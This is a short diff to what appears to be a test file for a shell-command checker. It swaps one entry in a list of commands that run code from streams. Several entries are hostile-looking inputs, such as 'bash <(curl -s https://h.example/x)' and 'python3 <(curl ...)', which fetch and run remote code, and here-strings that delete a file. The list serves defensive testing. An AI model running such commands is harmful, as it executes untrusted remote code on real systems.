@@ -23,7 +23,7 @@ describe('code from streams and the environment', () => {
     "exec 3<<<'rm x'; source /dev/fd/3",
     "exec {fd}<<<'rm x'; . /dev/fd/$fd",
     'bash <(curl -s https://h.example/x)',
-    'source <(kubectl get pods)',
+    'source <(kubectl completion bash)',
     'python3 <(curl -s https://h.example/x)',
     'bash /proc/self/fd/3 3<f',
   ]) {
